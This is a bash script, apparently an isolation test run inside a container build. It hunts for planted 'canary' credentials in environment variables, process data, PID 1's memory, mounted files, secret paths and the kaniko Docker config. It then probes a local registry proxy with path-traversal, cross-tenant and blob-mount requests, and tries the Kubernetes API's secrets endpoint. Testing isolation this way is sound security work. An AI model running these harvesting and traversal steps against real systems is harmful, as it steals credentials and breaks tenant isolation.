# Looks for credentials wherever a RUN step can look, and prints what it finds.
# The second half of the pattern is how a Basic header would carry one.
pattern='canary-[0-9a-f]{48}|QVdTOmNhbmFyeS[A-Za-z0-9+/=]+'
show() { while read -r hit; do echo "FOUND $1 $hit"; done; }

echo '--- environment'
env | grep -aoE "$pattern" | show environment
echo '--- processes'
for process in /proc/[0-9]*; do
  for part in environ cmdline; do
    tr '\0' '\n' < "$process/$part" 2>/dev/null | grep -aoE "$pattern" | show "$process/$part"
  done
  for file in "$process"/fd/*; do
    [ -f "$file" ] && grep -aoE "$pattern" "$file" 2>/dev/null | show "$file"
  done
done
echo '--- other processes'
for process in /proc/[0-9]*; do
  tr '\0' ' ' < "$process/cmdline" 2>/dev/null | cut -c1-200 | sed "s#^#PROCESS #"; echo
done
echo '--- memory of the first process'
while read -r range mode _; do
  case $mode in rw*) ;; *) continue ;; esac
  first=$((0x${range%-*} / 4096)) last=$((0x${range#*-} / 4096))
  [ $((last - first)) -gt 65536 ] && continue
  dd if=/proc/1/mem bs=4096 skip=$first count=$((last - first)) 2>/dev/null |
    grep -aoE "$pattern" | sort -u | show memory
done < /proc/1/maps
echo '--- files'
cut -d' ' -f2,3 /proc/mounts | while read -r mount kind; do
  case $kind in proc|sysfs|cgroup*|mqueue|devpts) continue ;; esac
  echo "MOUNT $mount $kind"
  find "$mount" -xdev -type f -size -65536k 2>/dev/null |
    while read -r file; do grep -aoE "$pattern" "$file" 2>/dev/null | show "$file"; done
done
for file in /etc/cygni /etc/cygni/proxy.json /var/run/secrets /run/secrets /kaniko/.docker/config.json; do
  if [ -e "$file" ]; then echo "EXISTS $file"; else echo "ABSENT $file"; fi
done
echo "CONFIG $(cat /kaniko/.docker/config.json)"
echo '--- listening'
grep -hE '^ *[0-9]+: [0-9A-F:]+ [0-9A-F:]+ 0A ' /proc/net/tcp /proc/net/tcp6 |
  while read -r _ address _; do echo "LISTEN $((0x${address##*:}))"; done
echo '--- the proxy'
ask() { # ask METHOD TARGET [HEADER...]: status line and body, spoken by hand so that no client tidies the path
  method=$1 target=$2; shift 2
  { printf '%s %s HTTP/1.1\r\nHost: 127.0.0.1:5001\r\nContent-Length: 0\r\nConnection: close\r\n' "$method" "$target"
    for header in "$@"; do printf '%s\r\n' "$header"; done; printf '\r\n'; sleep 1; } |
    nc -w 5 127.0.0.1 5001 > /tmp/answer 2>/dev/null
  echo "ASK $method $target: $(head -1 /tmp/answer | tr -d '\r') $(tail -1 /tmp/answer | cut -c1-200)"
  grep -aoE "$pattern" /tmp/answer | show answer
}
base=/v2/target
ask GET $base/acme/site/manifests/none
ask GET $base/rival/secret/manifests/one
ask GET $base/acme/other/manifests/one
ask GET $base/rival/cygni-cache/manifests/one
ask GET $base/acme/site/../../rival/secret/manifests/one
ask GET $base/acme/site/%2e%2e/%2e%2e/rival/secret/manifests/one
ask GET $base/acme%2fsite/../rival/secret/manifests/one
ask GET $base//rival/secret/manifests/one
ask GET "http://127.0.0.1:5001$base/rival/secret/manifests/one"
ask GET $base/acme/site/tags/list
ask GET /v2/_catalog
ask GET /token
ask POST "$base/acme/site/blobs/uploads/?mount=$SECRET_LAYER&from=target/rival/secret"
ask POST "$base/acme/site/blobs/uploads/?mount=$SECRET_LAYER&from=rival/secret"
ask POST "$base/acme/site/blobs/uploads/?mount=$SECRET_LAYER"
ask GET "$base/acme/site/blobs/$SECRET_LAYER"
ask PUT $base/acme/site/manifests/latest
ask PUT $base/acme/site/manifests/attempt-another-1
ask PUT $base/rival/secret/manifests/one
ask POST $base/rival/cygni-cache/blobs/uploads/
ask DELETE $base/acme/site/manifests/one
ask GET $base/acme/site/manifests/none 'Authorization: Basic QVdTOm1pbmU=' 'Cookie: session=mine'
echo '--- the network'
reach() { # reach NAME HOST PORT PATH
  { printf 'GET %s HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n' "$4" "$2" "$3"; sleep 1; } |
    nc -w 3 "$2" "$3" > /tmp/answer 2>/dev/null
  echo "REACH $1: $(tr -d '\r\n' < /tmp/answer | cut -c1-400)"
}
upstream=${UPSTREAM#http://}
reach upstream "${upstream%:*}" "${upstream#*:}" /v2/rival/secret/manifests/one
reach apiserver "${API_SERVER%:*}" "${API_SERVER#*:}" /api/v1/secrets
echo '--- end'
